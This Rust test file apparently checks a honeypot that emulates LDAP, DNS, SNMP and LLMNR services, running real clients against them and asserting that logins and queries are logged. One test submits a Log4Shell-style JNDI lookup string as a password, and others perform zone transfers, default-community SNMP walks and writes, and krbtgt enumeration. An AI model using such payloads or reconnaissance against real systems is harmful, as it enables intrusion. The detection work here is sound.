//! Directories and their kin spoken to by real clients: ldap, dns, snmp, llmnr.

use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

use crate::common::{Ran, World, event, run, tool};

/// LDAP's port is then one that nmap knows for a directory: 3268.
const OFFSET: u16 = 2879;

/// A domain controller, a Linux server, and a printer.
fn fleet() -> World {
    let mut world = World::new();
    world.offset = OFFSET;
    let file = world.fleet(
        "f.ini",
        &format!(
            "[dc]\nip = {}\nnmap_os = windows_server\nhostname = WIN-DC01\nservices = ldap,dns,snmp,llmnr\n\
             [dc.ldap]\ndomain = corp.local\nuser = helpdesk\npassword = Summer2025!\n\
             [ns]\nip = {}\ndistro = debian\nhostname = web1\nservices = ldap,dns,snmp,llmnr,ssh\n\
             [ns.ldap]\ndomain = corp.lan\nuser = backup\npassword = s3cret\n[ns.snmp]\nsys_location = Rack 7\n\
             [copier]\nip = {}\narchetype = printer\nservices = snmp,ftp\n",
            world.ip(10),
            world.ip(20),
            world.ip(30)
        ),
    );
    world.run(&["deploy", file.to_str().unwrap()]).ok();
    world
}

fn ldap(world: &World, program: &str, last: u8, args: &[&str]) -> Ran {
    let at = format!("ldap://{}:{}", world.ip(last), world.offset + 389);
    run(tool(program).env("LDAPTLS_REQCERT", "never").args(["-x", "-H", &at]).args(args))
}

fn dig(world: &World, last: u8, port: u16, args: &[&str]) -> String {
    let at = format!("@{}", world.ip(last));
    let port = (world.offset + port).to_string();
    run(tool("dig").args(["-r", "+time=5", "+tries=2", "-p", &port, &at]).args(args)).ok()
}

fn snmp(world: &World, program: &str, last: u8, args: &[&str]) -> Ran {
    let at = format!("{}:{}", world.ip(last), world.offset + 161);
    let (version, rest): (Vec<&str>, Vec<&str>) = args.iter().partition(|a| a.starts_with('-'));
    run(tool(program)
        .env("MIBS", "")
        .env("SNMPCONFPATH", world.path(""))
        .args(["-t", "3", "-r", "1", "-On"])
        .args(version)
        .arg(at)
        .args(rest))
}

/// A TCP connection: proof that this host receives what is sent to it.
fn prove(world: &World, last: u8, port: u16) {
    drop(std::net::TcpStream::connect((world.ip(last), world.offset + port)).unwrap());
    event(world, &["--kind", "connection"], |e| e["destination"]["port"] == world.offset + port);
}

#[test]
fn ldapsearch_reads_the_root_and_is_asked_to_bind() {
    let world = fleet();
    let root = ldap(&world, "ldapsearch", 10, &["-LLL", "-s", "base", "-b", ""]).ok();
    for line in [
        "defaultNamingContext: DC=corp,DC=local",
        "dnsHostName: WIN-DC01.corp.local",
        "domainFunctionality: 7",
    ] {
        assert!(root.contains(line), "{root}");
    }
    let refused = ldap(&world, "ldapsearch", 10, &["-b", "DC=corp,DC=local"]).code(1);
    assert!(refused.out.contains("000004DC: LdapErr"), "{}", refused.out);
    let wrong =
        ldap(&world, "ldapwhoami", 10, &["-D", "CORP\\administrator", "-w", "P@ssw0rd ${jndi:ldap://x/a}"])
            .code(49);
    assert!(wrong.err.contains("data 52e, v3839"), "{}", wrong.err);
    let login = event(&world, &["--kind", "login", "--service", "ldap"], |e| e["outcome"] == "failure");
    assert_eq!(
        (&login["user"], &login["secret"]),
        (&"CORP\\\\administrator".into(), &"P@ssw0rd ${jndi:ldap://x/a}".into())
    );
    let who = ["-D", "helpdesk@corp.local", "-w", "Summer2025!"];
    assert_eq!(ldap(&world, "ldapwhoami", 10, &who).ok().trim(), "u:CORP\\helpdesk");
    let users = ldap(
        &world,
        "ldapsearch",
        10,
        &[
            &who[..],
            &[
                "-LLL",
                "-E",
                "pr=100/noprompt",
                "-b",
                "DC=corp,DC=local",
                "(&(objectCategory=*)(sAMAccountName=krb*))",
                "sAMAccountName",
            ],
        ]
        .concat(),
    )
    .ok();
    assert!(users.contains("sAMAccountName: krbtgt") && !users.contains("Administrator"), "{users}");
    let query = event(&world, &["--kind", "query", "--service", "ldap"], |e| e.to_string().contains("krb*"));
    assert_eq!(query["ldap"]["scope"], "sub", "{query}");
}

/// Samba's client logs in by NTLM inside SPNEGO, and signs or enciphers what follows.
#[test]
fn ldbsearch_gets_in_by_ntlm() {
    let world = fleet();
    let at = format!("ldap://{}:{}", world.ip(10), world.offset + 389);
    let search = |account: &str, wrapping: &str| {
        let wrapping = format!("--option=client ldap sasl wrapping={wrapping}");
        run(tool("ldbsearch")
            .env("HOME", world.path(""))
            .args(["-H", &at, "-U", account, "--use-kerberos=off", "--configfile=/dev/null", &wrapping])
            .args(["-b", "DC=corp,DC=local", "(sAMAccountName=krbtgt)", "sAMAccountName"]))
    };
    for wrapping in ["plain", "sign", "seal"] {
        let out = search("CORP\\helpdesk%Summer2025!", wrapping).ok();
        assert!(out.contains("sAMAccountName: krbtgt"), "{wrapping} {out}");
    }
    let refused = search("CORP\\helpdesk%Winter2025!", "seal");
    assert!(refused.err.contains("data 52e, v3839"), "{}{}", refused.out, refused.err);
    let login = event(&world, &["--kind", "login", "--service", "ldap"], |e| e["outcome"] == "success");
    assert_eq!((&login["user"], &login["secret_kind"]), (&"helpdesk".into(), &"ntlmssp_v2".into()));
}

#[test]
fn openldap_speaks_in_clear_and_over_tls() {
    let world = fleet();
    let all = ldap(
        &world,
        "ldapsearch",
        20,
        &["-LLL", "-b", "dc=corp,dc=lan", "(objectClass=posixAccount)", "uid"],
    )
    .ok();
    assert!(all.contains("uid: backup"), "{all}");
    let who = ["-D", "uid=backup,ou=people,dc=corp,dc=lan", "-w", "s3cret"];
    let start = ldap(&world, "ldapwhoami", 20, &[&["-ZZ"][..], &who].concat()).ok();
    assert_eq!(start.trim(), "dn:uid=backup,ou=people,dc=corp,dc=lan");
    let at = format!("ldaps://{}:{}", world.ip(20), world.offset + 636);
    let over = run(tool("ldapwhoami").env("LDAPTLS_REQCERT", "never").args(["-x", "-H", &at]).args(who)).ok();
    assert_eq!(over.trim(), "dn:uid=backup,ou=people,dc=corp,dc=lan");
    let delete = ldap(&world, "ldapdelete", 20, &["uid=backup,ou=people,dc=corp,dc=lan"]).code(8);
    assert!(delete.err.contains("modifications require authentication"), "{}", delete.err);
}

#[test]
fn dig_gets_the_zone_and_the_version() {
    let world = fleet();
    // Over UDP nobody is told more than they asked; dig comes back over TCP by itself.
    let first = dig(&world, 20, 53, &["corp.lan", "NS", "+ignore", "+norec"]);
    assert!(first.contains(" tc") && first.contains("ANSWER: 0"), "{first}");
    assert_eq!(
        dig(&world, 20, 53, &["version.bind", "CH", "TXT", "+short"]).trim(),
        "\"9.18.49-1~deb12u3-Debian\""
    );
    let zone = dig(&world, 20, 53, &["corp.lan", "AXFR", "+noall", "+answer"]);
    assert!(
        zone.lines().count() > 12 && zone.matches("SOA").count() == 2 && !zone.contains("failed"),
        "{zone}"
    );
    let now = dig(&world, 20, 53, &["corp.lan", "NS", "+ignore", "+norec"]);
    assert!(now.contains("ns2.corp.lan.") && now.contains("COOKIE") && now.contains("(good)"), "{now}");
    let own = world.ip(20).to_string();
    assert_eq!(dig(&world, 20, 53, &["-x", &own, "+short"]).trim(), "web1.corp.lan.");
    let refused = dig(&world, 20, 53, &["example.com"]);
    assert!(refused.contains("status: REFUSED"), "{refused}");
    let srv = dig(&world, 10, 53, &["_ldap._tcp.dc._msdcs.corp.local", "SRV", "+short", "+tcp"]);
    assert_eq!(srv.trim(), "0 100 389 win-dc01.corp.local.");
    let seen = event(&world, &["--service", "dns"], |e| e["action"] == "zone_transfer");
    assert_eq!(
        (&seen["outcome"], &seen["dns"]["question"]["name"]),
        (&"success".into(), &"corp.lan.".into())
    );
}

#[test]
fn walks_are_short_until_the_peer_proves_itself() {
    let world = fleet();
    let describe = "1.3.6.1.2.1.1.1.0";
    let small = snmp(&world, "snmpget", 20, &["-v2c", "-cpublic", describe]);
    assert!(small.err.contains("tooBig"), "{}{}", small.out, small.err);
    prove(&world, 20, 22);
    let walk = snmp(&world, "snmpwalk", 20, &["-v1", "-cpublic", "1.3.6.1.2.1"]).ok();
    assert!(walk.contains("Linux web1 6.1.0-") && walk.contains("\"Rack 7\""), "{walk}");
    assert!(walk.contains("sshd") && walk.lines().count() > 500, "{}", walk.lines().count());
    let bulk = snmp(&world, "snmpbulkwalk", 20, &["-v2c", "-cpublic", "1.3.6.1.2.1"]).ok();
    // Version 1 has no 64-bit counters; all else is the same.
    assert!(bulk.lines().count() > walk.lines().count(), "{}", bulk.lines().count());
    assert!(bulk.contains(&world.ip(20).to_string()), "its address");
    let set = snmp(&world, "snmpset", 20, &["-v2c", "-cprivate", "1.3.6.1.2.1.1.5.0", "s", "pwned"]).ok();
    assert!(set.contains("pwned"), "{set}");
    let wrong = snmp(&world, "snmpget", 20, &["-v2c", "-cs3cr3t", describe]).code(1);
    assert!(wrong.err.contains("Timeout"), "{}", wrong.err);
    let login = event(&world, &["--kind", "login", "--service", "snmp"], |e| e["outcome"] == "failure");
    assert_eq!(login["secret"], "s3cr3t");
    let usm = ["-v3", "-lauthNoPriv", "-unetadmin", "-aSHA", "-Ahunter2hunter2", describe];
    let unknown = snmp(&world, "snmpget", 20, &usm).code(1);
    assert!(unknown.err.contains("Unknown user name"), "{}", unknown.err);
    let login = event(&world, &["--kind", "login", "--service", "snmp"], |e| e["user"] == "netadmin");
    assert_eq!(login["secret_kind"], "snmpv3_usm");
    // As it was when the digest was made of it.
    let message = login["snmp"]["message"].as_str().unwrap();
    assert!(message.contains(&"00".repeat(12)) && !message.contains(login["secret"].as_str().unwrap()));
    prove(&world, 30, 21);
    let printer = snmp(&world, "snmpwalk", 30, &["-v2c", "-cpublic", "1.3.6.1.2.1.43"]).ok();
    assert!(printer.contains("Ready"), "{printer}");
}

#[test]
fn names_on_the_link_are_answered_when_they_are_its_own() {
    let world = fleet();
    let own = world.ip(20).to_string();
    let answer = dig(&world, 20, 5355, &["web1", "+noedns", "+norec", "+short"]);
    assert_eq!(answer.trim(), own);
    let local = dig(&world, 20, 5353, &["web1.local", "+noedns", "+norec", "+short"]);
    assert_eq!(local.trim(), own, "proved by the TCP connection before");
    // A question to the group, as a stub resolver sends it.
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    socket.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let query = |name: &str| {
        let length = u8::try_from(name.len()).unwrap();
        [&b"\x12\x34\0\0\0\x01\0\0\0\0\0\0"[..], &[length], name.as_bytes(), b"\0\0\x01\0\x01"].concat()
    };
    let lo = rustix::net::sockopt::set_ip_multicast_if(&socket, &Ipv4Addr::LOCALHOST);
    lo.unwrap();
    let group = (Ipv4Addr::new(224, 0, 0, 252), world.offset + 5355);
    socket.send_to(&query("web1"), group).unwrap();
    let mut buffer = [0; 512];
    // Worlds of other tests share the group, and their namesakes answer too.
    let length = loop {
        let (length, from) = socket.recv_from(&mut buffer).unwrap();
        if from.ip() == world.ip(20) {
            break length;
        }
    };
    assert!(buffer[..length].ends_with(&world.ip(20).octets()));
    while socket.recv(&mut buffer).is_ok() {}
    socket.send_to(&query("wpad"), group).unwrap();
    assert!(socket.recv(&mut [0; 512]).is_err(), "nobody is called that");
    socket.send_to(&query("wpad"), (world.ip(20), world.offset + 5355)).unwrap();
    assert!(socket.recv(&mut [0; 512]).is_err(), "nobody is called that");
    let asked = event(&world, &["--service", "llmnr"], |e| e["dns"]["question"]["name"] == "wpad.");
    assert_eq!(asked["llmnr"]["own_name"], false);
}

#[test]
fn nmap_names_directory_and_name_server() {
    let world = fleet();
    let scan = |last: u8, ports: &[u16]| {
        let ports: Vec<String> = ports.iter().map(|p| (world.offset + p).to_string()).collect();
        let to = world.ip(last).to_string();
        run(tool("nmap").args(["-Pn", "-n", "-sT", "-sV", "--unprivileged", "-p", &ports.join(","), &to]))
            .ok()
    };
    let windows = scan(10, &[389]);
    assert!(windows.contains("Microsoft Windows Active Directory LDAP (Domain: corp.local"), "{windows}");
    assert!(
        windows.contains("Site: Default-First-Site-Name") && windows.contains("Host: WIN-DC01"),
        "{windows}"
    );
    let linux = scan(20, &[53, 389]);
    assert!(linux.contains("ISC BIND 9.18.49-1~deb12u3 (Debian Linux)"), "{linux}");
    assert!(linux.contains("OpenLDAP 2.2.X - 2.3.X"), "{linux}");
    let script = run(tool("nmap").args([
        "-Pn",
        "-n",
        "-sT",
        "--unprivileged",
        "--script",
        "+ldap-rootdse",
        "-p",
        &(world.offset + 389).to_string(),
        &world.ip(10).to_string(),
    ]))
    .ok();
    assert!(script.contains("rootDomainNamingContext: DC=corp,DC=local"), "{script}");
}
